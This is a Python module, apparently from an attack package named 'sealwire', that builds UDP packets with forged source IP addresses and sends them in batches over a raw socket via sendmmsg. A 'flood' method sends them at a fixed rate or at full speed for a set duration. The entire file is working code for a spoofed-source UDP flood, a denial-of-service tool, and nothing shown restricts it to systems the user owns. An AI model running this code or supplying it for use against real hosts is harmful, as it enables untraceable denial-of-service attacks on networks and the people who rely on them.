"""Datagrams from addresses that are not ours: a ring of ready packets, sent many to a system call.

Packets are made once, with their IP and UDP headers, then sendmmsg() takes a run of them without a
copy in Python; a turn of the ring costs Python one call per run.  Needs CAP_NET_RAW.
"""

from __future__ import annotations

import ctypes
import errno
import os
import random
import socket
import struct
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Final

from sealwire.attack.target import IPNetwork, Target

#: Packets of one system call.
RUN: Final = 128
_UDP: Final = struct.Struct("!HHHH")
_IPV4: Final = struct.Struct("!BBHHHBBH4s4s")
_IPV6: Final = struct.Struct("!IHBB16s16s")
_TTL: Final = 64
_FIRST_SOURCE_PORT: Final = 1024
_LAST_PORT: Final = 0xFFFF
# A queue that is full for a moment, not a mistake.
_FULL: Final = frozenset((errno.ENOBUFS, errno.EAGAIN, errno.ENOMEM))


class _Vector(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("size", ctypes.c_size_t))


class _Header(ctypes.Structure):
    _fields_ = (
        ("name", ctypes.c_void_p),
        ("name_size", ctypes.c_uint32),
        ("vectors", ctypes.c_void_p),
        ("vector_count", ctypes.c_size_t),
        ("control", ctypes.c_void_p),
        ("control_size", ctypes.c_size_t),
        ("flags", ctypes.c_int),
    )


class _Message(ctypes.Structure):
    _fields_ = (("header", _Header), ("sent", ctypes.c_uint))


@dataclass(slots=True)
class Sent:
    """What a sender has done: datagrams, their UDP payload in bytes, seconds, and what was refused."""

    datagrams: int = 0
    payload_bytes: int = 0
    refused: int = 0
    seconds: float = 0.0


def packets(
    target: Target, sources: IPNetwork, payload: Callable[[random.Random], bytes], count: int, seed: int
) -> Iterator[bytes]:
    """`count` IP packets for `target` with forged sources; the same seed makes the same ones."""
    choose = random.Random(seed)  # noqa: S311 -- to be repeated, not to be secret
    destination = target.address.packed
    first, size = int(sources.network_address), sources.num_addresses
    for _ in range(count):
        source = (first + choose.randrange(size)).to_bytes(len(destination))
        data = payload(choose)
        port = choose.randint(_FIRST_SOURCE_PORT, _LAST_PORT)
        length = _UDP.size + len(data)
        udp = _UDP.pack(port, target.port, length, 0) + data
        if target.address.version == 4:
            # The kernel adds identification and checksum; no UDP checksum is a legal one (RFC 768).
            fields = (0x45, 0, _IPV4.size + length, 0, 0, _TTL, socket.IPPROTO_UDP, 0, source, destination)
            yield _IPV4.pack(*fields) + udp
        else:
            pseudo = source + destination + struct.pack("!II", length, socket.IPPROTO_UDP)
            udp = _UDP.pack(port, target.port, length, _checksum(pseudo + udp)) + data
            header = (6 << 28, length, socket.IPPROTO_UDP, _TTL, source, destination)
            yield _IPV6.pack(*header) + udp


def _checksum(data: bytes) -> int:
    """RFC 1071; RFC 8200 section 8.1 writes a zero as all ones."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > _LAST_PORT:
        total = (total & 0xFFFF) + (total >> 16)
    return (~total & 0xFFFF) or 0xFFFF


class Forger:
    """Sends a ring of packets for `target`, again and again.

    Raises:
        PermissionError: without CAP_NET_RAW.
    """

    def __init__(self, target: Target, ring: list[bytes]) -> None:
        self.sent = Sent()
        v4 = target.address.version == 4
        self._count = len(ring)
        self._payload = [len(one) - (_IPV4.size if v4 else _IPV6.size) - _UDP.size for one in ring]
        self._next = 0
        # Everything the kernel reads stays where it is for as long as this object lives.
        self._data = ctypes.create_string_buffer(b"".join(ring))
        name = _sockaddr(target)
        self._name = ctypes.create_string_buffer(name, len(name))
        self._vectors = (_Vector * len(ring))()
        self._messages = (_Message * len(ring))()
        at = ctypes.addressof(self._data)
        for packet, vector, message in zip(ring, self._vectors, self._messages, strict=True):
            vector.base, vector.size = at, len(packet)
            at += len(packet)
            message.header.name = ctypes.addressof(self._name)
            message.header.name_size = len(name)
            message.header.vectors = ctypes.addressof(vector)
            message.header.vector_count = 1
        self._socket = socket.socket(target.family, socket.SOCK_RAW, socket.IPPROTO_RAW)
        target.tie(self._socket)

    def close(self) -> None:
        self._socket.close()

    def send(self, count: int) -> int:
        """Send the next `count` packets or fewer, in one call; returns how many left."""
        count = min(count, self._count - self._next)
        first = ctypes.byref(self._messages, self._next * ctypes.sizeof(_Message))
        done = int(_libc.sendmmsg(self._socket.fileno(), first, count, 0))
        if done < 0:
            error = ctypes.get_errno()
            if error not in _FULL:
                raise OSError(error, os.strerror(error))
            self.sent.refused += count
            return 0
        self.sent.datagrams += done
        self.sent.payload_bytes += sum(self._payload[self._next : self._next + done])
        self._next = (self._next + done) % self._count
        return done

    def flood(self, seconds: float, rate: float | None) -> Sent:
        """Send for so long, at most `rate` packets a second (None: as fast as it goes)."""
        begin = time.perf_counter()
        before = self.sent.datagrams
        while (passed := time.perf_counter() - begin) < seconds:
            due = RUN if rate is None else int(passed * rate) - (self.sent.datagrams - before)
            if due > 0:
                self.send(min(due, RUN))
            else:
                time.sleep(min(RUN / (rate or 1), 0.001))
        self.sent.seconds += time.perf_counter() - begin
        return self.sent


_libc: Final = ctypes.CDLL(None, use_errno=True)


def _sockaddr(target: Target) -> bytes:
    """struct sockaddr_in or sockaddr_in6; a raw socket takes no port."""
    if target.address.version == 4:
        return struct.pack("=H2x4s8x", socket.AF_INET, target.address.packed)
    return struct.pack("=H2x4x16s4x", socket.AF_INET6, target.address.packed)
